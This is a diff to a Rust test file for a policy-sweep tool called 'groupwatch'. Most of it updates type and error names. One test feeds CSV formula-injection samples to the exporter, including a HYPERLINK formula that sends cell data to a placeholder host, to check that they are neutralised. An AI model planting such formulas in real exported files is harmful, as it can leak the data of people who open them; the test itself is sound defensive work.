@@ -5,7 +5,9 @@ use std::fs::File;
 use std::path::{Path, PathBuf};
 
 use groupwatch::io::{col, frame, write_parquet};
-use groupwatch::policy::{Entity, Policy};
+use groupwatch::policy::Policy;
+use groupwatch::schema::EntityKind;
+use groupwatch::run_folder::RunFolderError;
 use groupwatch::sweep::{self, Counts, Label, Sweep, SweepError};
 use groupwatch::ExitCode;
 use polars::prelude::*;
@@ -318,12 +320,12 @@ fn compare_lists_what_each_policy_alone_flags() {
     assert_eq!((c.flagged_b.groups, c.flagged_b.accounts), (6, 1));
     assert_eq!((c.only_a_counts.total(), c.only_b_counts.total()), (3, 1));
     // By score descending, then id: account 50 and 101 tie at 0.75.
-    let only_a: Vec<(Entity, u64)> = c.only_a.iter().map(|d| (d.kind, d.id)).collect();
-    assert_eq!(only_a, [(Entity::Account, 1), (Entity::Account, 50), (Entity::Account, 101)]);
+    let only_a: Vec<(EntityKind, u64)> = c.only_a.iter().map(|d| (d.kind, d.id)).collect();
+    assert_eq!(only_a, [(EntityKind::Account, 1), (EntityKind::Account, 50), (EntityKind::Account, 101)]);
     assert_eq!(c.only_a[0].reasons, ["threshold:account>=0.70"]);
     assert_eq!(c.only_a[0].label, Some(Label::Violating));
     assert_eq!(c.only_b.len(), 1);
-    assert_eq!((c.only_b[0].kind, c.only_b[0].id, c.only_b[0].score), (Entity::Group, 4, 0.4));
+    assert_eq!((c.only_b[0].kind, c.only_b[0].id, c.only_b[0].score), (EntityKind::Group, 4, 0.4));
     assert_eq!(c.only_b[0].reasons, ["threshold:group>=0.30"]);
 
     let csv = sweep::compare_csv(&c);
@@ -454,12 +456,12 @@ fn bad_run_folders_are_bad_input() {
     let tmp = tempfile::tempdir().unwrap();
     let missing = tmp.path().join("run=2001-01-01");
     let e = sweep::sweep(&missing, &policy(), 100).unwrap_err();
-    assert!(matches!(e, SweepError::NoRunDir { .. }) && e.is_bad_input(), "{e}");
+    assert!(matches!(e, SweepError::RunFolder(RunFolderError::NotAFolder { .. })) && e.is_bad_input(), "{e}");
 
     let (_tmp, dir) = run_folder();
     std::fs::remove_file(dir.join("labels.parquet")).unwrap();
     let e = sweep::sweep(&dir, &policy(), 100).unwrap_err();
-    assert!(matches!(e, SweepError::MissingFile { .. }) && e.is_bad_input(), "{e}");
+    assert!(matches!(e, SweepError::RunFolder(RunFolderError::Missing { .. })) && e.is_bad_input(), "{e}");
     assert!(e.to_string().contains("labels.parquet"), "{e}");
 
     let (_tmp2, dir) = run_folder();
@@ -467,12 +469,12 @@ fn bad_run_folders_are_bad_input() {
     rows[3].kind = "network";
     write_facts(&dir, &rows);
     let e = sweep::compare(&dir, &policy(), &policy()).unwrap_err();
-    assert!(matches!(e, SweepError::Value { row: 3, .. }) && e.is_bad_input(), "{e}");
+    assert!(matches!(e, SweepError::RunFolder(RunFolderError::Value { row: 3, .. })) && e.is_bad_input(), "{e}");
 
     let (_tmp3, dir) = run_folder();
     std::fs::write(dir.join("policy_facts.parquet"), b"not parquet").unwrap();
     let e = sweep::sweep(&dir, &policy(), 100).unwrap_err();
-    assert!(matches!(e, SweepError::Read { .. }) && e.is_bad_input(), "{e}");
+    assert!(matches!(e, SweepError::RunFolder(RunFolderError::Read { .. })) && e.is_bad_input(), "{e}");
 
     let e = sweep::sweep(&dir, &policy(), 0).unwrap_err();
     assert!(e.is_bad_input(), "{e}");
@@ -496,12 +498,12 @@ fn csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_numbers_stay_numbe
         only_a_counts: Default::default(),
         only_b_counts: Default::default(),
         only_a: vec![
-            hostile(Entity::Group, 1, 0.5, &["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"]),
-            hostile(Entity::Group, 2, 0.25, &["+1+1", "rule:x"]),
-            hostile(Entity::Account, 3, 0.125, &["-2+3"]),
-            hostile(Entity::Account, 4, 0.0, &["@SUM(A1:A2)"]),
+            hostile(EntityKind::Group, 1, 0.5, &["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"]),
+            hostile(EntityKind::Group, 2, 0.25, &["+1+1", "rule:x"]),
+            hostile(EntityKind::Account, 3, 0.125, &["-2+3"]),
+            hostile(EntityKind::Account, 4, 0.0, &["@SUM(A1:A2)"]),
         ],
-        only_b: vec![hostile(Entity::Group, 5, 1.0, &["\tcmd"]), hostile(Entity::Group, 6, 1.0, &["\r=1"]), hostile(Entity::Group, 7, 1.0, &["rule:ok"])],
+        only_b: vec![hostile(EntityKind::Group, 5, 1.0, &["\tcmd"]), hostile(EntityKind::Group, 6, 1.0, &["\r=1"]), hostile(EntityKind::Group, 7, 1.0, &["rule:ok"])],
     };
     let csv = sweep::compare_csv(&c);
     assert_eq!(
